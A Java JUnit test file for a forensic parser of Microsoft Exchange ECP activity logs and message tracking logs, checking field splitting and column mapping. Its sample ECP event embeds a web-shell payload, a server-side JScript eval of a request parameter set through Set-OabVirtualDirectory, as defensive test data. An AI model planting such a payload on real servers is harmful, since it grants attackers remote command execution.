package dwell.format.exchange;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dwell.event.Event;
import dwell.event.LogSources;
import dwell.format.Collected;
import java.io.IOException;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class EcpAndMessageTrackingLogTest {
    static final String SCRIPT = "Set-OabVirtualDirectory.ExternalUrl='http://x/<script language=\"JScript\" runat=\"server\">"
            + "function Page_Load(){eval(Request[\"a\"],\"unsafe\");}</script>'";
    static final String EVENT_DATA = "S:TIME=1023;S:SID=3f0c2a11-77d5-4e0e-9c49-0e2b5c6d7e8f;S:USR=CONTOSO\\administrator;"
            + "S:CMD=" + SCRIPT + ".Identity='9b1c7e2a-0000-4f6a-8c3e-5d2a1b0c9e8f';S:REQID=;"
            + "S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Zm9v;S:REFERRER=;"
            + "S:IP=203.0.113.7;S:UA=python-requests/2.25.1;S:SESSIONID=;S:ERR=;S:ACTID=1a2b3c4d;";

    static String quote(String v) {
        return "\"" + v.replace("\"", "\"\"") + "\"";
    }

    @Test
    void pairSplittingRule() {
        assertEquals(Map.of("A", "1", "B", "x;y", "C", "p;q=1"), EcpEventData.pairs("S:A=1;S:B=x;y;S:C=p;q=1;"));
        assertEquals(Map.of("CMD", "a;}b", "N", "2"), EcpEventData.pairs("S:CMD=a;}b;I:N=2"));
        assertEquals(Map.of("ActID", "x", "Dur", "1.5"), EcpEventData.pairs("S:ActID=x;Dt:Dur=1.5"));
        assertEquals(Map.of("U", "http://h/;ht:1=2"), EcpEventData.pairs("S:U=http://h/;ht:1=2"));
        assertEquals(Map.of("K", "first"), EcpEventData.pairs("S:K=first;S:K=second"));
        assertEquals(Map.of(), EcpEventData.pairs("free text; not pairs"));
        assertEquals(Map.of(), EcpEventData.pairs(""));
    }

    @Test
    void ecpHeaderRowWithoutDirectives() throws IOException {
        String log = "TimeStamp,ServerName,EventId,EventData\r\n2021-03-03T07:41:12.345Z,EXCH01,ECP.Request,S:TIME=3;S:IP=192.0.2.1\r\n";
        Event e = Collected.read(new EcpLog(), "ECP/Activity/x.LOG", log).event(0);
        assertEquals("192.0.2.1", e.get("IP"));
        assertEquals("3", e.get("TIME"));
    }

    static final String MSGTRK_FIELDS = "date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,"
            + "source,event-id,internal-message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,"
            + "recipient-count,related-recipient-address,reference,message-subject,sender-address,return-path,message-info,"
            + "directionality,tenant-id,original-client-ip,original-server-ip,custom-data,transport-traffic-type,log-id,schema-version";

    @Test
    void messageTrackingByColumnName() throws IOException {
        String[] v = {"2021-03-03T07:45:10.221Z", "203.0.113.7", "mx.example.net", "10.0.0.5", "EXCH01",
            "08D8DD1F2C1B2A3C;2021-03-03T07:45:09.998Z;0", "EXCH01\\Default Frontend EXCH01", "SMTP", "RECEIVE",
            "12884901889", "<a1b2c3@example.net>", "0e3a5b7c-1111-2222-3333-444455556666", "jdoe@contoso.com", "",
            "6723", "1", "", "", "Invoice, March \"final\"", "attacker@example.net", "attacker@example.net", "",
            "Incoming", "", "203.0.113.7", "10.0.0.5", "S:FirstForestHop=EXCH01.contoso.com", "Email",
            "0e3a5b7c-1111-2222-3333-444455556666", "15.01.2106.002"};
        StringBuilder line = new StringBuilder();
        for (String s : v) {
            if (line.length() > 0) line.append(',');
            line.append(s.contains(",") || s.contains("\"") ? quote(s) : s);
        }
        String log = "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n#Log-type: Message Tracking Log\r\n"
                + "#Date: 2021-03-03T00:00:05.012Z\r\n#Fields: " + MSGTRK_FIELDS + "\r\n" + line + "\r\n";
        Collected c = Collected.read(new MessageTrackingLog(), "MessageTracking/MSGTRK2021030300-1.LOG", log);
        assertEquals(List.of(), c.unreadable);
        Event e = c.event(0);
        assertEquals(Instant.parse("2021-03-03T07:45:10.221Z"), e.time());
        assertEquals("RECEIVE", e.get("event-id"));
        assertEquals("Invoice, March \"final\"", e.get("message-subject"));
        assertEquals("attacker@example.net", e.get("sender-address"));
        assertEquals("EXCH01", e.host());
        assertEquals(MessageTrackingLog.ID, e.format());
        assertNull(e.get("CMD"), "only ECP logs split EventData-style pairs");
        assertEquals(30, e.fields().size());
    }
}
